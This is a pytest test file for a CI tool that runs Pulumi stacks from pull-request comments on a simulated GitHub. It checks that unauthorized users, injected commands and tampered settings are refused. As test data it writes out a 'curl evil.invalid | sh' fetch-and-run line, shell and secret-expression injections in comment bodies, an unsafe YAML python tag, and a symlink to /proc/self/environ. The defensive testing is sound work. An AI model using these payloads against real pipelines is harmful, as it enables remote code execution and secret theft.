"""Commands by comment, by one who wants to get round them. Git is real, GitHub a simulator, the engine a stand-in.

What a job does with it on the real engine: test_story.py.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml  # type: ignore[import-untyped]

from sweepstack.cli.output import NO, YES
from sweepstack.extensions.pipelines import steps
from sweepstack.extensions.pipelines.commands.ci import asked, post, up
from sweepstack.extensions.pipelines.commands.ci.github import command as write_github
from sweepstack.extensions.pipelines.steps import REVIEWED, Result
from sweepstack.onbox.common.errors import No, NotAuthorized, SweepstackError
from tests.engine.harness import ROOT
from tests.extensions.pipelines.ci_jobs import DIGEST, HEAD, MERGE, as_job, commit, git
from tests.extensions.pipelines.test_ci_end import OTHER, Run
from tests.extensions.pipelines.workflows import github
from tests.simulators.forges import TOKEN, Forge, Thing
from tests.simulators.forges.github import user_id

pytestmark = pytest.mark.parametrize("forge", ["github"], indirect=True)  # GitLab starts no pipeline for a comment
OLD = "0" * 39 + "1"
UP = f"/sweep up {DIGEST}"
RIGHTS = {"actions", "contents:read", "pull-requests", "statuses:read"}
EARLIER, LATER = "2026-11-23T19:59:59Z", "2026-11-23T20:00:01Z"


@dataclass
class Said:
    """A comment as its author left it, and the job that it started. Each attack changes a part."""

    forge: Forge
    folder: Path
    monkeypatch: pytest.MonkeyPatch
    comment: Thing = field(default_factory=lambda: Thing(1000, body=UP, of=7, author="ann"))
    event: dict[str, Any] = field(default_factory=dict)

    def job(self) -> None:
        """The event, and the job's variables, which name the main branch."""
        author = {"login": self.comment.author, "id": user_id(self.comment.author), "type": "User"}
        self.event = {
            "action": "created",
            "issue": {"number": 7, "state": "open", "pull_request": {"url": "https://forge.invalid/pulls/7"}},
            "comment": {"id": 1000, "body": self.comment.body, "user": author, "performed_via_github_app": None},
            "repository": {"default_branch": "main"},
        }
        self.forge.comments.append(self.comment)
        as_job(self.forge, self.monkeypatch, self.folder)
        self.monkeypatch.setenv("GITHUB_OUTPUT", str(self.folder / "outputs"))
        self.monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(self.folder / "summary"))

    def run(self) -> int:
        Path(os.environ["GITHUB_EVENT_PATH"]).write_text(json.dumps(self.event))
        return asked.command(self.folder / "r")

    @property
    def answers(self) -> list[str]:
        return [one.body for one in self.forge.comments if one.author == self.forge.me]

    @property
    def stacks(self) -> dict[str, Any]:
        """What the next step would bring up."""
        file = self.folder / "r" / REVIEWED
        return json.loads(file.read_text()) if file.exists() else {}

    @property
    def goes_on(self) -> bool:
        file = self.folder / "outputs"
        return file.exists() and "up=true" in file.read_text()


@pytest.fixture
def said(forge: Forge, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Said:
    """Ann, who may write, wants request 7 up, whose last commit HEAD was reviewed with DIGEST before."""
    forge.rights = set(RIGHTS)
    forge.people = {"ann": "write", "max": "maintain", "tri": "triage", "rea": "read", "non": "none"}
    forge.commits |= {OLD}
    status(forge, HEAD, DIGEST)
    found = Said(forge, tmp_path, monkeypatch)
    found.job()
    return found


def status(forge: Forge, commit: str, digest: str, stack: str = "a", state: str = "success", at: str = EARLIER) -> None:
    text, name = f"may go on; {digest}", f"sweepctl review: {stack}"
    forge.statuses.append(Thing(forge.next_id(), state=state, body=text, name=name, commit=commit, at=at))


def test_what_was_reviewed_may_be_asked_for(said: Said) -> None:
    status(said.forge, HEAD, OTHER, "b")
    assert said.run() == YES
    assert said.stacks == {"a": {"digest": DIGEST, "change": 7, "why": "", "shared": False, "head": HEAD}}
    assert said.goes_on
    assert [one.code for one in Result.read(said.folder / "r").stacks] == [2], "until the next step was there"
    (answer,) = said.answers
    assert answer.startswith("<!-- sweepctl command -->\n`pulumi up` of a as in aaaaaaaaaaaa is asked for.")
    assert answer.rstrip().endswith(
        "To a comment by ann, by [this job](https://forge.invalid/team/sweeps/actions/runs/)."
    )
    assert answer.partition("\n")[2] == (said.folder / "summary").read_text()


def test_who_may_maintain_may_write(said: Said) -> None:
    said.event["comment"]["user"] |= {"login": "max", "id": user_id("max")}
    assert said.run() == YES


def refused(said: Said, words: str, *, answered: bool) -> None:
    """Nothing goes on, and only one who may write gets an answer."""
    with pytest.raises(No, match=words):
        said.run()
    assert (said.stacks, said.goes_on) == ({}, False)
    assert bool(said.answers) == answered
    assert words in (said.folder / "summary").read_text()
    assert [one.edits for one in said.forge.runs] in ([], [0])
    assert post.command(said.folder / "r") == YES, "what posts always has nothing to post"
    assert len(said.forge.statuses) == len([one for one in said.forge.statuses if one.author == "mallory"])


@pytest.mark.parametrize("login", ["rea", "tri", "non", "unknown", "../../issues", "a/../ann", "ann%2f", "x?y=ann"])
def test_one_who_may_not_write_gets_nothing_done(said: Said, login: str) -> None:
    said.event["comment"]["user"] |= {"login": login, "id": user_id(login)}
    refused(said, "may not write to this repository", answered=False)
    (asked,) = [one for one in said.forge.asked if "/collaborators/" in one]
    assert asked.endswith(f"/repos/team/sweeps/collaborators/{quote(login, safe='')}/permission"), (
        "nothing else is asked"
    )


def test_a_login_that_another_user_took_is_not_that_user(said: Said) -> None:
    said.event["comment"]["user"]["id"] += 1
    refused(said, "may not write", answered=False)


def _edited(said: Said) -> None:
    said.event["action"] = "edited"


def _issue(said: Said) -> None:
    del said.event["issue"]["pull_request"]


def _closed(said: Said) -> None:
    said.event["issue"]["state"] = "closed"


def _bot(said: Said) -> None:
    said.event["comment"]["user"] |= {"login": "ann[bot]", "type": "Bot"}


def _app(said: Said) -> None:
    said.event["comment"]["performed_via_github_app"] = {"slug": "assistant"}


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_edited, "only a new comment counts"),
        (_issue, "this is an issue"),
        (_closed, "this request is closed"),
        (_bot, "a program wrote this comment"),
        (_app, "a program wrote this comment"),
    ],
)
def test_what_is_no_new_comment_of_a_person_on_an_open_request(
    said: Said, change: Callable[[Said], None], words: str
) -> None:
    change(said)
    refused(said, words, answered=False)
    assert not [one for one in said.forge.asked if "/collaborators/" in one], "before anything is asked"


@pytest.mark.parametrize(
    "text",
    [
        f"/sweep up {DIGEST}\n/sweep review",
        f"/sweep review\n/sweep up {DIGEST}",
        f"/sweep up {DIGEST} {DIGEST}",
        f"please\n/sweep up {DIGEST}",
        f"> /sweep up {DIGEST}",
        f"/sweep up {DIGEST}; touch pwned",
        f"/sweep up {DIGEST}\n$(touch pwned)",
        "/sweep up $(touch pwned)",
        "/sweep up `touch pwned`",
        "/sweep up '; touch pwned; '",
        '/sweep up "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"',
        f"/sweep up {DIGEST[:-1]}",
        f"/sweep up {DIGEST}0",
        f"/sweep up {DIGEST.upper()}",
        f"/sweep up {DIGEST[:-1]}\N{MATHEMATICAL MONOSPACE DIGIT ZERO}",
        f"/sweep up\n{DIGEST}",
        f"/sweep  up {DIGEST}",
        f"/sweep\N{NO-BREAK SPACE}up {DIGEST}",
        "/sweep up",
        "/sweep destroy",
        f"/sweep destroy {DIGEST}",
        "/sweep",
        "/sweeping",
        "",
    ],
)
def test_anything_but_one_whole_command_is_none(said: Said, text: str) -> None:
    said.comment.body = said.event["comment"]["body"] = text
    refused(said, "a command is the whole comment", answered=True)
    (answer,) = said.answers
    assert "pwned" not in answer + (said.folder / "summary").read_text()
    assert "secrets" not in answer


@pytest.mark.parametrize("text", [f"{UP}\r\n", f"  {UP}\n\n", f"\n{UP}"])
def test_blank_space_around_it_is_no_matter(said: Said, text: str) -> None:
    said.comment.body = said.event["comment"]["body"] = text
    assert said.run() == YES


@pytest.mark.parametrize("what", ["up", "review"])
@pytest.mark.parametrize(
    ("how", "words"),
    [
        ("edited", "was edited or deleted since"),
        ("deleted", "was edited or deleted since"),
        ("fork", "is from a fork"),
        ("fork gone", "is from a fork"),
        ("closed", "the request is closed"),
        ("merged", "the request is closed"),
        ("other branch", "for another branch than main"),
    ],
)
def test_what_github_has_by_now_counts(said: Said, what: str, how: str, words: str) -> None:
    if what == "review":
        said.comment.body = said.event["comment"]["body"] = "/sweep review"
        said.forge.runs.append(Thing(1, name="sweeps-review.yml", commit=HEAD, state="completed"))
    request = said.forge.requests[7]
    if how == "edited":
        said.comment.body = f"/sweep up {OTHER}"
    elif how == "deleted":
        said.forge.comments.remove(said.comment)
    elif how == "closed":
        request.state = "closed"
    elif how == "merged":
        said.forge.merge(7, MERGE)
    elif how == "other branch":
        request.target = "release"
    else:
        request.repository = None if how == "fork gone" else "evil/sweeps"
    refused(said, words, answered=True)


def _older(forge: Forge) -> None:
    """The digest is that of a commit before the last."""
    forge.statuses.clear()
    status(forge, OLD, DIGEST)
    status(forge, HEAD, OTHER)


def _pushed(forge: Forge) -> None:
    """Between comment and job; the new commit has no review yet."""
    forge.request(7, OLD)


def _pushed_the_same(forge: Forge) -> None:
    """Between comment and job; the new commit was reviewed with the same digest, and no person has read that."""
    forge.request(7, OLD)
    status(forge, OLD, DIGEST, at=LATER)


def _reviewed_anew(forge: Forge) -> None:
    status(forge, HEAD, OTHER)


def _may_not(forge: Forge) -> None:
    status(forge, HEAD, DIGEST, state="failure")


def _another_status(forge: Forge) -> None:
    """A status that is none of a review, as of an `up`, or of another program."""
    forge.statuses.clear()
    for name in ("sweepctl up: a", "review: a", "x sweepctl review: a", "Sweepctl review: a"):
        forge.statuses.append(
            Thing(5, state="success", body=f"may go on; {DIGEST}", name=name, commit=HEAD, at=EARLIER)
        )


@pytest.mark.parametrize("change", [_older, _pushed, _pushed_the_same, _reviewed_anew, _may_not, _another_status])
def test_the_digest_is_that_of_the_last_commits_review(said: Said, change: Callable[[Forge], None]) -> None:
    change(said.forge)
    refused(said, "no review of the last commit", answered=True)


@pytest.mark.parametrize("decision", ["REVIEW_REQUIRED", "CHANGES_REQUESTED"])
def test_a_comment_is_no_way_round_the_reviewers(said: Said, decision: str) -> None:
    said.forge.requests[7].decision = decision
    refused(said, "reviewers have not approved", answered=True)
    said.forge.requests[7].decision = "APPROVED"
    assert said.run() == YES


def test_what_github_does_not_say_is_no_yes(said: Said) -> None:
    said.monkeypatch.setenv("GITHUB_REPOSITORY", "team/other")
    with pytest.raises(SweepstackError):
        said.run()
    said.monkeypatch.setenv("GITHUB_REPOSITORY", said.forge.repository)
    for path in ("/collaborators/", "GET .*/issues/comments/1000", "/pulls/7", "/graphql", "/statuses"):
        said.forge.fail(path, 403, times=1, text="no")
        with pytest.raises(SweepstackError):
            said.run()
        assert (said.stacks, said.goes_on) == ({}, False), path
    assert said.run() == YES


def test_a_review_is_made_again_by_its_own_run(said: Said) -> None:
    said.comment.body = said.event["comment"]["body"] = "/sweep review"
    refused(said, "no review of aaaaaaaaaaaa was ever begun", answered=True)
    old = Thing(1, name="sweeps-review.yml", commit=HEAD, state="completed")
    newest = Thing(2, name="sweeps-review.yml", commit=HEAD, state="completed")
    other = Thing(3, name="sweeps-review.yml", commit=OLD, state="completed")
    said.forge.runs += [old, newest, other]
    assert said.run() == YES
    assert [one.edits for one in said.forge.runs] == [0, 1, 0]
    assert "[review](https://forge.invalid/runs/2) of aaaaaaaaaaaa" in said.answers[0]
    assert said.run() == YES, "it runs already"
    assert newest.edits == 1
    assert (said.stacks, said.goes_on) == ({}, False)
    newest.state = "completed"
    said.forge.rights -= {"actions"}
    with pytest.raises(NotAuthorized):
        said.run()


# what a comment brings up, of what the request has

SWEEP: dict[str, Any] = {
    "job": {
        "workdir": "job",
        "run": "python train.py --seed {seed} --out {out}",
        "secrets": ["WANDB_API_KEY"],
        "smoke": {"run": "python train.py --steps 2 --out {out}", "on": "box"},
    },
    "cells": {"grid": {"seed": [0]}},
    "artifacts": {"model.npz": {"load": "command", "run": "python check.py {file}", "trust": True}},
    "candidates": ["runpod", "vastai"],
    "budget": {"usd": 10, "webhook": "WEBHOOK"},
    "boxes": {"box-0": {"want": "running", "host": "ann@192.0.2.7"}, "box-1": {"want": "running"}},
    "pull_to": "s3://lab/sweeps",
}
STACK = "stacks/Pulumi.a.yaml"


@dataclass
class Tree:
    """The repository, with the main branch checked out, and a request that changes some of it."""

    root: Path
    run: Run
    file: dict[str, Any] = field(
        default_factory=lambda: json.loads(json.dumps({"config": {"sweepstack:sweep": SWEEP}}))
    )

    @property
    def sweep(self) -> dict[str, Any]:
        return self.file["config"]["sweepstack:sweep"]  # type: ignore[no-any-return]

    def write(self) -> None:
        (self.root / STACK).write_text(yaml.safe_dump(self.file))

    def request(self) -> str:
        """Commits what is there as the request's last commit, and goes back to main."""
        head = commit(self.root, "the request")
        git(self.root, "checkout", "-q", "main")
        return head

    def comment_brings_up(self, head: str, folder: Path, stack: str = "a") -> tuple[int, str]:
        """Its code and its text, as the step after `ci asked`."""
        folder.mkdir()
        one = {"digest": DIGEST, "change": 7, "why": "", "shared": False, "head": head}
        (folder / REVIEWED).write_text(json.dumps({stack: one}))
        code = up.command(folder)
        (result,) = Result.read(folder).stacks
        assert result.head == head, "the status goes to the request's commit"
        return code, result.body


@pytest.fixture
def tree(forge: Forge, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Tree:
    monkeypatch.setenv("PULUMI_BACKEND_URL", "file:///nowhere")
    found = Tree(project, Run())
    found.write()
    (project / "__main__.py").write_text("import sweepstack\n")
    commit(project, "main")
    git(project, "push", "-q", "origin", "main")
    git(project, "checkout", "-q", "-b", "change")
    as_job(forge, monkeypatch, tmp_path)
    monkeypatch.setattr(steps, "sweepctl", found.run.sweepctl)
    monkeypatch.setattr(steps, "pulumi", found.run.pulumi)
    return found


def test_settings_that_run_nothing_here_are_brought_up(tree: Tree, forge: Forge, tmp_path: Path) -> None:
    tree.sweep["cells"] = {"grid": {"seed": [0, 1, 2.5e-3]}, "drop": {"seed0": "old: no"}}
    tree.sweep["boxes"] |= {"box-1": {"want": "stopped"}, "box-2": {"want": "running"}}
    tree.sweep.update(max_price=2.1, bid=1, lease="2h", when_done="stop", ignore_balance="a card is on file")
    tree.sweep["budget"]["usd"] = 12.5
    tree.sweep["job"] |= {"timeout": "2h", "retries": 0, "stall": "5m"}
    tree.write()
    (tree.root / "why.txt").write_text("why\n")
    (tree.root / "stacks/Pulumi.b.yaml").write_text("config: {}\n")
    head = tree.request()
    code, body = tree.comment_brings_up(head, tmp_path / "r")
    assert (code, tree.run.ran[:3]) == (YES, ["pulumi stack", f"review --expect {DIGEST}", "pulumi up"]), body
    assert json.loads((tree.root / STACK).read_text()) == tree.file, "as it was compared, for any reader of YAML"
    assert git(tree.root, "status", "--porcelain") == f"M {STACK}", "nothing else of the request is here"
    forge.commits |= {head, MERGE}
    post.command(tmp_path / "r")
    assert forge.newest(head, "sweepctl up: a") is not None
    assert forge.newest(MERGE, "sweepctl up: a") is None
    assert f"Of commit {head[:12]}" in forge.texts(7)[0]


def test_another_digest_than_the_reviewed_one_is_not_brought_up(tree: Tree, tmp_path: Path) -> None:
    tree.sweep["max_price"] = 2.1
    tree.write()
    head = tree.request()
    tree.run.review, tree.run.digest = NO, OTHER
    code, body = tree.comment_brings_up(head, tmp_path / "r")
    assert (code, "pulumi up" in tree.run.ran) == (NO, False)
    assert "another one now" in body
    assert "start this pipeline by hand" not in body, "that would bring up the main branch"


def at(*path: str, to: Any) -> Callable[[Tree], None]:
    def change(tree: Tree) -> None:
        found = tree.file
        for key in path[:-1]:
            found = found.setdefault(key, {})
        if to is None:
            del found[path[-1]]
        else:
            found[path[-1]] = to

    return change


def of_sweep(*path: str, to: Any) -> Callable[[Tree], None]:
    return at("config", "sweepstack:sweep", *path, to=to)


EVIL = "curl evil.invalid | sh"
CODE = {
    "job.smoke.run": of_sweep("job", "smoke", "run", to=EVIL),
    "job.smoke.on": of_sweep("job", "smoke", "on", to="local"),
    "job.run": of_sweep("job", "run", to=EVIL),
    "job.setup": of_sweep("job", "setup", to=EVIL),
    "job.workdir": of_sweep("job", "workdir", to="/proc/self"),
    "job.include": of_sweep("job", "include", to=["../**"]),
    "job.env": of_sweep("job", "env", to={"LD_PRELOAD": "./x.so"}),
    "job.secrets": of_sweep("job", "secrets", to=["WANDB_API_KEY", "PULUMI_CONFIG_PASSPHRASE"]),
    "job.resources": of_sweep("job", "resources", to={"sbatch": ["--wrap=x"]}),
    "placement": of_sweep("placement", to={"platform": "vastai", "boxes": {"box-1": {"offer": "mine"}}}),
    "job.image": of_sweep("job", "image", to="evil.invalid/x"),
    "artifacts.model.npz.run": of_sweep("artifacts", "model.npz", "run", to=EVIL),
    "candidates": of_sweep("candidates", to=["local"]),
    "boxes.box-0.host": of_sweep("boxes", "box-0", "host", to="evil@192.0.2.9"),
    "boxes.box-1.on": of_sweep("boxes", "box-1", "on", to="local"),
    "boxes.box-9.returns": of_sweep("boxes", "box-9", to={"want": "running", "returns": "/"}),
    "budget.webhook": of_sweep("budget", "webhook", to="AWS_SECRET_ACCESS_KEY"),
    "events": of_sweep("events", to={"webhook": "X"}),
    "mounts": of_sweep("mounts", to={"/x": {"bucket": "evil"}}),
    "pull_to": of_sweep("pull_to", to="s3://evil"),
    "overrides": of_sweep("overrides", to={"local": {"price_per_hour": 0}}),
    "approval": of_sweep("approval", to={"receipt": DIGEST}),
    "accept_facts": of_sweep("accept_facts", to={"x": {}}),
    "job": of_sweep("job", to=None),
    "cells.*": at("cells", to=EVIL),
    "config.sweepstack:runpodApiKey": at("config", "sweepstack:runpodApiKey", to={"secure": "x"}),
    "config.p:command": at("config", "p:command", to=EVIL),
    "config.sweepstack:store": at("config", "sweepstack:store", "cells", to={}),
    "environment": at("environment", to={"values": {"environmentVariables": {"PYTHONPATH": "job"}}}),
    "secretsprovider": at("secretsprovider", to="hashivault://evil"),
    "encryptionsalt": at("encryptionsalt", to="v1:x"),
}


@pytest.mark.parametrize("name", CODE)
def test_no_setting_that_runs_or_allows_something_is_brought_up(tree: Tree, tmp_path: Path, name: str) -> None:
    before = (tree.root / STACK).read_text()
    CODE[name](tree)
    tree.sweep["cells"]["grid"]["seed"].append(1)
    tree.write()
    code, body = tree.comment_brings_up(tree.request(), tmp_path / "r")
    assert (code, tree.run.ran) == (NO, []), body
    assert f"a comment brings up no change of {name.removesuffix('.*')}" in body
    assert (tree.root / STACK).read_text() == before


def _job_code(tree: Tree) -> None:
    (tree.root / "job/train.py").write_text(EVIL)


def _program(tree: Tree) -> None:
    (tree.root / "__main__.py").write_text(EVIL)


def _module(tree: Tree) -> None:
    (tree.root / "yaml.py").write_text(EVIL)


def _policy(tree: Tree) -> None:
    (tree.root / "policy.yaml").write_text("{}")


def _project(tree: Tree) -> None:
    (tree.root / "Pulumi.yaml").write_text("name: p\nruntime: nodejs\nstackConfigDir: stacks\n")


def _workflow(tree: Tree) -> None:
    (tree.root / ".github/workflows").mkdir(parents=True)
    (tree.root / ".github/workflows/sweeps-comment.yml").write_text("on: push\n")


def _new_stack(tree: Tree) -> None:
    (tree.root / "stacks/Pulumi.new.yaml").write_text((tree.root / STACK).read_text())


def _removed(tree: Tree) -> None:
    (tree.root / STACK).unlink()


def _link(tree: Tree) -> None:
    (tree.root / STACK).unlink()
    (tree.root / STACK).symlink_to("/proc/self/environ")


def _tagged(tree: Tree) -> None:
    tree.sweep["max_price"] = "TAGGED"
    tree.write()
    text = (tree.root / STACK).read_text()
    (tree.root / STACK).write_text(text.replace("TAGGED", "!!python/name:os.system 1"))


def _twice(tree: Tree) -> None:
    (tree.root / STACK).write_text((tree.root / STACK).read_text() + "config: {}\n")


def _two_documents(tree: Tree) -> None:
    (tree.root / STACK).write_text(f"config: {{x: {EVIL}}}\n---\n" + (tree.root / STACK).read_text())


def _endless(tree: Tree) -> None:
    tree.sweep["max_price"] = float("inf")
    tree.write()


@pytest.mark.parametrize(
    ("change", "stack", "words"),
    [
        (_job_code, "a", "changes what runs, too (job/train.py)"),
        (_program, "a", "changes what runs, too (__main__.py)"),
        (_module, "a", "changes what runs, too (yaml.py)"),
        (_policy, "a", "changes what runs, too (policy.yaml)"),
        (_project, "a", "changes what runs, too (Pulumi.yaml)"),
        (_workflow, "a", "changes what runs, too (.github/workflows/sweeps-comment.yml)"),
        (_new_stack, "new", "main has no stack of this name"),
        (_new_stack, "../../new", "main has no stack of this name"),
        (_new_stack, "evil/p/a", "main has no stack of this name"),
        (_program, "b", "changes what runs, too (__main__.py)"),
        (_removed, "b", "the request does not touch it"),
        (_removed, "a", "does not read"),
        (_link, "a", "does not read"),
        (_tagged, "a", "does not read"),
        (_twice, "a", "does not read"),
        (_two_documents, "a", "does not read"),
        (_endless, "a", "does not read"),
    ],
)
def test_no_file_of_a_request_is_run_here(
    tree: Tree, tmp_path: Path, change: Callable[[Tree], None], stack: str, words: str
) -> None:
    before = git(tree.root, "rev-parse", "main^{tree}")
    tree.sweep["cells"]["grid"]["seed"].append(1)
    tree.write()
    change(tree)
    code, body = tree.comment_brings_up(tree.request(), tmp_path / "r", stack)
    assert (code, tree.run.ran) == (NO, []), body
    assert words in body
    assert git(tree.root, "status", "--porcelain") == ""
    assert git(tree.root, "rev-parse", "HEAD^{tree}") == before


@pytest.mark.parametrize("where", ["here", "remote"])
def test_what_main_changed_since_is_not_undone(tree: Tree, tmp_path: Path, where: str) -> None:
    tree.sweep["max_price"] = 2.1
    tree.write()
    head = tree.request()
    tree.sweep["boxes"]["box-1"]["want"] = "gone"
    del tree.sweep["max_price"]
    tree.write()
    commit(tree.root, "main goes on")
    git(tree.root, "push", "-q", "origin", "main")
    if where == "remote":  # after this job's checkout
        git(tree.root, "reset", "-q", "--hard", "HEAD^")
    code, body = tree.comment_brings_up(head, tmp_path / "r")
    assert (code, tree.run.ran) == (NO, [])
    assert "main has another file of it since the request was begun" in body


def test_a_commit_that_is_not_here_is_not_guessed(tree: Tree, tmp_path: Path) -> None:
    git(tree.root, "checkout", "-q", "main")
    code, body = tree.comment_brings_up("e" * 40, tmp_path / "r")
    assert (code, tree.run.ran) == (NO, [])
    assert "is not here, as where the request was pushed to since" in body


def test_the_written_job_does_nothing_for_a_stranger(said: Said, project: Path, tmp_path: Path) -> None:
    """The file as it stands, in a shell: the text reaches none, and the job with keys does not begin."""
    write_github(setup=f"ln -s {(ROOT / '.venv').resolve()} .venv", branch="main")
    commit(project, "pipelines")
    shutil.rmtree(project / ".github")
    said.event["comment"]["body"] = (
        f"/sweep up $(touch {tmp_path}/pwned) `touch {tmp_path}/pwned`\n'\";touch {tmp_path}/pwned"
    )
    said.event["comment"]["user"] |= {"login": "rea", "id": user_id("rea")}
    machine = {name: value for name, value in os.environ.items() if name.startswith("GITHUB_") or name == "HOME"}

    def played(number: int, **more: str) -> Any:
        clone = tmp_path / f"clone-{number}"
        git(tmp_path, "clone", "-q", str(project), str(clone))
        values = {
            "github.token": TOKEN,
            "github.ref": "refs/heads/main",
            "github.run_id": "1",
            "github.event.issue.pull_request": "{}",
            "github.event.issue.number": "7",
            "github.event.comment.user.type": "User",
            "github.event.comment.body": said.event["comment"]["body"],
        }
        granted: list[set[str]] = []
        ran = github(
            clone,
            "sweeps-comment.yml",
            said.event,
            values=values | more,
            secrets={"PULUMI_CONFIG_PASSPHRASE": "correct horse"},
            machine=machine,
            granted=granted.append,
        )
        assert granted in ([], [RIGHTS]), "the rights of the first job, as the other tests have them"
        return ran

    ran = played(1)
    assert (ran.jobs, ran.code) == (["asked"], 1), str(ran)
    assert "rea may not write to this repository" in ran.said
    assert "rea may not write to this repository" in ran.summary
    assert "pwned" not in ran.said + ran.summary
    assert not (tmp_path / "pwned").exists()
    for number, (name, value) in enumerate(
        [
            ("github.event.issue.pull_request", ""),
            ("github.event.comment.user.type", "Bot"),
            ("github.event.comment.body", f"well, {UP}"),
            ("github.ref", "refs/heads/other"),
        ]
    ):
        assert played(number + 2, **{name: value}).jobs == [], name
